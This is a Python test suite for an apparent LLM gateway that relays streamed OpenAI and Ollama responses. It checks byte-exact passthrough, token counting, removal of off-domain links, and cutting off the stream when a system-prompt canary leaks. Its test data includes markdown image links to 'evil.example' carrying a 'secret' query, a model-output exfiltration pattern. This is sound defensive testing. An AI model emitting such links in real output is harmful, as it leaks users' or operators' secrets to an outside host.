"""A stream passes in whole events whatever the cuts of the network, byte for byte where nothing had to be changed."""

from itertools import pairwise
from typing import Any

import orjson
import pytest
from gateway import ollama, openai
from gateway.counted import Counted
from gateway.echo import Secrets
from gateway.errors import Refusal
from gateway.output import Output
from gateway.relay import Relay
from hypothesis import given
from hypothesis import strategies as st

USAGE = {"prompt_tokens": 7, "completion_tokens": 3, "total_tokens": 10}
TEXTS = ["a", '"usage"', '{"usage": {"prompt_tokens": 9}}', "data: ", "\n\n", "é\u2028", '\\"usage\\"', ""]
CANARY = "canary-7f3a9c51e0d24b68"
SECRETS = Secrets([CANARY], "You are the assistant of this house and of nobody else, by day and by night.", 24)
DONE = b"data: [DONE]\n\n"


def event(value: object) -> bytes:
    return b"data: " + orjson.dumps(value) + b"\n\n"


def said(text: str, reason: str | None = None) -> bytes:
    return event({"id": "c", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": reason}]})


def pieces(data: bytes, cuts: list[int]) -> list[bytes]:
    places = sorted({0, len(data), *(cut % (len(data) + 1) for cut in cuts)})
    return [data[start:end] for start, end in pairwise(places)]


def passed(parts: list[bytes], writer: Any) -> tuple[bytes, Counted]:
    counted = Counted()
    relay = Relay(writer, Output(SECRETS, ["docs.example"]), counted)
    out = b"".join([relay.feed(part) for part in parts if not relay.cut])
    return out + relay.finish(), counted


def contents(stream: bytes) -> str:
    """The text that a client of OpenAI's API puts together."""
    chunks = [
        orjson.loads(part.removeprefix(b"data: ")) for part in stream.split(b"\n\n") if part.startswith(b"data: {")
    ]
    return "".join(choice["delta"].get("content") or "" for chunk in chunks for choice in chunk["choices"])


@given(st.lists(st.sampled_from(TEXTS), max_size=6), st.lists(st.integers(0, 10_000), max_size=8), st.booleans())
def test_any_cuts_give_the_same_bytes_and_the_same_count(texts: list[str], cuts: list[int], show: bool) -> None:
    deltas, usage = b"".join(said(text) for text in texts), event({"choices": [], "usage": USAGE})
    got, counted = passed(pieces(deltas + usage + DONE, cuts), openai.Stream(show))
    assert got == deltas + (usage if show else b"") + DONE
    assert (counted.prompt_tokens, counted.completion_tokens) == (7, 3)
    assert counted.events == len(texts)


@given(st.lists(st.sampled_from(TEXTS), max_size=6), st.lists(st.integers(0, 10_000), max_size=8))
def test_lines_of_ollamas_api_too(texts: list[str], cuts: list[int]) -> None:
    stream = b"".join(said(text) for text in texts) + said("", "length") + event({"choices": [], "usage": USAGE}) + DONE
    got, _ = passed(pieces(stream, cuts), ollama.Stream("m", 0.0, "message"))
    lines = (
        [orjson.loads(line) for line in got.splitlines()]
        if "\u2028" not in got.decode()
        else [orjson.loads(x) for x in got.split(b"\n") if x]
    )
    assert "".join(line["message"]["content"] for line in lines) == "".join(texts)
    assert (lines[-1]["done"], lines[-1]["done_reason"], lines[-1]["eval_count"]) == (True, "length", 3)


def test_usage_beside_an_answer_is_read_and_stays() -> None:
    last = event({"choices": [{"delta": {}, "finish_reason": "stop"}], "usage": USAGE})
    got, counted = passed([last + DONE], openai.Stream(False))
    assert (got, counted.completion_tokens) == (last + DONE, 3)


@pytest.mark.parametrize(
    "usage", [None, [], "x", {"prompt_tokens": -1, "completion_tokens": "9"}, {"prompt_tokens": True}]
)
def test_usage_that_makes_no_sense_counts_nothing(usage: object) -> None:
    _, counted = passed([event({"choices": [], "usage": usage}) + DONE], openai.Stream(True))
    assert (counted.prompt_tokens, counted.completion_tokens) == (None, None)


@pytest.mark.parametrize(
    "wrong",
    [
        b"x" * (1 << 21), b'data: {"usage"\n\n', b"event: error\n\n", b'data: {"error": {"message": "your prompt was: x"}}\n\n',
        b"data: []\n\n",
        b'data: {"choices": [1]}\n\n', b'data: {"choices": {"a": 1}}\n\n', said("a"), b"",
    ],
)  # fmt: skip
def test_a_stream_that_is_none_or_ends_too_early(wrong: bytes) -> None:
    with pytest.raises(Refusal) as caught:
        passed([wrong], openai.Stream(True))
    assert caught.value.code == "engine_failed"


@given(st.lists(st.integers(0, 10_000), max_size=8))
def test_an_address_over_several_events_is_taken_out(cuts: list[int]) -> None:
    parts = [
        "See ![x",
        "](htt",
        "p://ev",
        "il.example/?q=",
        "secret) and [d](https://do",
        "cs.example/a",
        ") ok ",
        "www",
    ]
    stream = b"".join(said(part) for part in parts) + said("", "stop") + DONE
    got, _ = passed(pieces(stream, cuts), openai.Stream(False))
    assert contents(got) == "See ![x] (link removed) and [d](https://docs.example/a) ok www"
    assert got.count(b"\n\n") == len(parts) + 2


def test_what_is_held_comes_with_the_last_event_or_without_one() -> None:
    for end in (said("", "stop"), event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}), b""):
        got, _ = passed([said("a [b]") + end + DONE], openai.Stream(False))
        assert contents(got) == "a [b]"


@pytest.mark.parametrize("parts", [[CANARY], list(CANARY), [CANARY[:9], CANARY[9:]], ["x " + CANARY + " y"]])
def test_a_canary_ends_the_stream(parts: list[str]) -> None:
    stream = b"".join(said(part) for part in ["Fine. ", *parts, "more", " and more"]) + said("", "stop") + DONE
    got, _ = passed([stream], openai.Stream(False))
    assert got.endswith(DONE)
    assert b'"finish_reason":"content_filter"' in got
    assert contents(got).startswith("Fine. ")
    assert "canary" not in contents(got)
    assert "more" not in contents(got)
    lines, _ = passed([stream], ollama.Stream("m", 0.0, "message"))
    assert orjson.loads(lines.splitlines()[-1])["done_reason"] == "content_filter"


def test_a_canary_in_the_call_of_a_tool_ends_it_too() -> None:
    def call(arguments: str, name: str = "x") -> bytes:
        calls = [{"index": 0, "function": {"name": name, "arguments": arguments}}]
        return event({"choices": [{"index": 0, "delta": {"tool_calls": calls}}]})

    assert b"content_filter" in passed([call("{}", CANARY) + DONE], openai.Stream(False))[0]
    got, _ = passed([call('{"q": "') + call(CANARY[:12]) + call(CANARY[12:]) + DONE], openai.Stream(False))
    assert b"content_filter" in got
    assert CANARY[12:].encode() not in got


@pytest.mark.parametrize("name", ["reasoning_content", "reasoning"])
def test_reasoning_is_filtered_like_the_answer(name: str) -> None:
    stream = event({"choices": [{"index": 0, "delta": {name: f"hm [a](http://evil.example/x) {CANARY}"}}]}) + DONE
    got, _ = passed([stream], openai.Stream(False))
    assert b"evil" not in got
    assert b"canary" not in got


def test_text_of_the_filter_is_what_a_whole_answer_gets() -> None:
    text = "See ![x](http://evil.example/s) and https://docs.example/a"
    choice = {"message": {"content": text}}
    assert Output(SECRETS, ["docs.example"]).whole(choice)
    assert choice["message"]["content"] == "See ![x] (link removed) and https://docs.example/a"
